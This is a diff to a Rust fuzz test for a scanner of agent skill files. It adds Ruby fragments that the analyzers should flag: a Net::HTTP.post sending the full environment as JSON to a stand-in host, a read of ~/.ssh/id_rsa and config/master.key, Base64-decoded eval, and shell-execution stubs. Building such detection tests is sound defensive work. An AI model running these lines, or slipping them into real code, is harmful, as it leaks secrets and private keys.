@@ -18,6 +18,12 @@ use skills_scan::{Options, SkillFile, scan};
 /// Pieces the analyzers react to, joined at random.
 const PIECES: &[&str] = &[
     "---\n",
+    "Net::HTTP.post(URI('https://a.example.net'), ENV.to_h.to_json)\n",
+    "`cat ~/.ssh/id_rsa`",
+    "eval(Base64.decode64(",
+    "File.read('config/master.key')",
+    "%x(",
+    "system(\"",
     "name: x\n",
     "description: ",
     "allowed-tools: Bash(python:*)\n",
@@ -247,6 +253,7 @@ proptest! {
             ("scripts/run.sh", sh.as_bytes()),
             ("scripts/x.py", py.as_bytes()),
             ("scripts/x.ps1", sh.as_bytes()),
+            ("scripts/x.rb", py.as_bytes()),
             ("references/raw.md", &raw),
             ("assets/config.json", md.as_bytes()),
         ]);
